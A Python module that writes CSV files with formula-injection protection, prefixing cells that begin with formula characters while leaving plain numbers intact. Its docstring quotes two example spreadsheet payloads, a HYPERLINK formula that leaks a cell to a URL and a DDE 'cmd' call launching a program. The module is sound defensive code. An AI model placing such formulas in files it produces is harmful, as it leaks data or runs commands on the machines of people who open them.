"""One CSV writer for every table the kit writes, safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel and LibreOffice as a formula (``=HYPERLINK("http://…?leak="&A1)``, ``=cmd|' /C calc'!A0``)
and runs when the file is opened. Following OWASP's *CSV injection* rule, such cells are written
with a leading single quote (``'=HYPERLINK(…)``), which spreadsheets show as text. Numbers are
left alone: numeric columns are never touched, and a text cell that is a plain number
(``-3.5``, ``+33``) stays as it is, so a negative number is still a number. Text cells are
quoted, so that a line break inside a cell cannot start a row of its own.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd

__all__ = ["neutralise", "safe_frame", "write_csv", "FORMULA_START"]

#: Characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?")


def neutralise(value):
    """The cell made inert: text starting with a formula character gets a leading ``'``.

    Non-text values and text that is a plain number are returned unchanged.
    """
    if not isinstance(value, str) or not value or value[0] not in FORMULA_START:
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_frame(data: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``data`` whose text cells (and column names) are neutralised (see
    :func:`neutralise`); numeric, boolean and date columns are kept as they are."""
    out = data.copy()
    for col in out.columns:
        s = out[col]
        if (
            pd.api.types.is_object_dtype(s.dtype)
            or pd.api.types.is_string_dtype(s.dtype)
            or isinstance(s.dtype, pd.CategoricalDtype)
        ):
            if isinstance(s.dtype, pd.CategoricalDtype):
                s = s.astype(object)
            out[col] = s.map(neutralise, na_action="ignore")
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    return out


def write_csv(data: pd.DataFrame, path: str | Path, *, index: bool = False, **kwargs) -> Path:
    """Write ``data`` to ``path`` as UTF-8 CSV with every formula-like cell neutralised.

    Parameters
    ----------
    data : DataFrame
    path : str or Path
    index : bool, default False
        Write the index (neutralised too when it holds text).
    **kwargs
        Passed to :meth:`pandas.DataFrame.to_csv`.

    Returns
    -------
    Path
    """
    path = Path(path)
    frame = data.reset_index() if index else data
    kwargs.setdefault("encoding", "utf-8")
    # text quoted, so that a carriage return inside a cell cannot start a new row whose first
    # cell is a formula; numbers stay unquoted (read back as numbers)
    kwargs.setdefault("quoting", csv.QUOTE_NONNUMERIC)
    safe_frame(frame).to_csv(path, index=False, **kwargs)
    return path
